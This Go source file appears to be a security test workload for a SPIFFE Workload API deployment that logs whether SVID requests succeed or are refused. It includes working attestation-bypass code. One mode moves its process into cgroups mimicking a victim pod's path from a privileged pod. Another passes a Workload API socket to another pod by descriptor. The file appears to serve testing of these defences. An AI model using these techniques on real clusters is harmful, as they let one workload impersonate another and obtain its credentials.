package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/spiffe/go-spiffe/v2/workloadapi"
	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"
)

// fetchOnce tells what one call is answered with.
func fetchOnce(ctx context.Context, options ...workloadapi.ClientOption) error {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	client, err := workloadapi.New(ctx, options...)
	if err != nil {
		return err
	}
	defer hangUp(client)
	svids, err := client.FetchX509SVIDs(ctx)
	if err != nil {
		tell(event{What: "refused", Error: status.Convert(err).Message()})
		return nil
	}
	for _, s := range svids {
		tell(event{What: "x509", ID: s.ID.String()})
	}
	return nil
}

// again asks each second.
func again(ctx context.Context) error {
	every := time.NewTicker(time.Second)
	defer every.Stop()
	for {
		if err := fetchOnce(ctx); err != nil {
			tell(event{What: "refused", Error: err.Error()})
		}
		select {
		case <-every.C:
		case <-ctx.Done():
			return nil
		}
	}
}

// nested makes a control group below its own in every hierarchy of the node
// that it can write to, with the last names of the victim's path, goes there,
// and asks. $VICTIM is the victim's /proc/<pid>/cgroup below the host's PIDs:
// the process whose command is "workload watch" in another pod.
func nested(ctx context.Context) error {
	victim := os.Getenv("VICTIM") // podUID/containerID, the end of a path
	own, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return err
	}
	moved := 0
	for line := range strings.Lines(string(own)) {
		parts := strings.SplitN(strings.TrimSpace(line), ":", 3)
		if len(parts) != 3 {
			continue
		}
		hierarchy := strings.TrimPrefix(parts[1], "name=")
		if hierarchy == "" {
			hierarchy = "unified"
		}
		dir := filepath.Join("/host-cgroup", hierarchy, parts[2], victim)
		if err := os.MkdirAll(dir, 0o755); err != nil { //nolint:gosec // the pod is privileged and gone soon
			continue // not every hierarchy can be written to
		}
		if err := os.WriteFile(filepath.Join(dir, "cgroup.procs"), fmt.Append(nil, os.Getpid()), 0); err == nil { //nolint:gosec // it is to go where it should not
			moved++
		}
	}
	tell(event{What: "moved", Count: moved})
	if err := fetchOnce(ctx); err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

// hand connects to the Workload API, gives the socket to whoever comes to $MEET,
// and ends.
func hand(ctx context.Context) error {
	path := strings.TrimPrefix(os.Getenv("SPIFFE_ENDPOINT_SOCKET"), "unix://")
	var d net.Dialer
	conn, err := d.DialContext(ctx, "unix", path)
	if err != nil {
		return err
	}
	file, err := conn.(*net.UnixConn).File() //nolint:forcetypeassert // it was dialled as one
	if err != nil {
		return err
	}
	meet, err := net.ListenUnix("unix", &net.UnixAddr{Name: os.Getenv("MEET"), Net: "unix"})
	if err != nil {
		return err
	}
	other, err := meet.AcceptUnix()
	if err != nil {
		return err
	}
	_, _, err = other.WriteMsgUnix([]byte{1}, unix.UnixRights(int(file.Fd())), nil)
	tell(event{What: "handed on"})
	return err
}

// take takes the socket and asks over it, a second after its giver ended.
func take(ctx context.Context) error {
	var meet *net.UnixConn
	for meet == nil {
		c, err := net.DialUnix("unix", nil, &net.UnixAddr{Name: os.Getenv("MEET"), Net: "unix"})
		if err == nil {
			meet = c
			break
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(100 * time.Millisecond): // the other pod is not up yet
		}
	}
	oob := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := meet.ReadMsgUnix(make([]byte, 1), oob)
	if err != nil {
		return err
	}
	messages, err := unix.ParseSocketControlMessage(oob[:n])
	if err != nil || len(messages) != 1 {
		return errors.Join(errors.New("no socket came"), err)
	}
	fds, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		return err
	}
	conn, err := net.FileConn(os.NewFile(uintptr(fds[0]), "socket"))
	if err != nil {
		return err
	}
	time.Sleep(time.Second) // until the giver has ended, which nothing tells
	once := func(context.Context, string) (net.Conn, error) {
		if conn == nil {
			return nil, errors.New("there was one socket")
		}
		c := conn
		conn = nil
		return c, nil
	}
	tell(event{What: "taken"})
	err = fetchOnce(ctx, workloadapi.WithAddr("unix:///taken"), workloadapi.WithDialOptions(
		grpc.WithContextDialer(once), grpc.WithTransportCredentials(insecure.NewCredentials())))
	if err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}
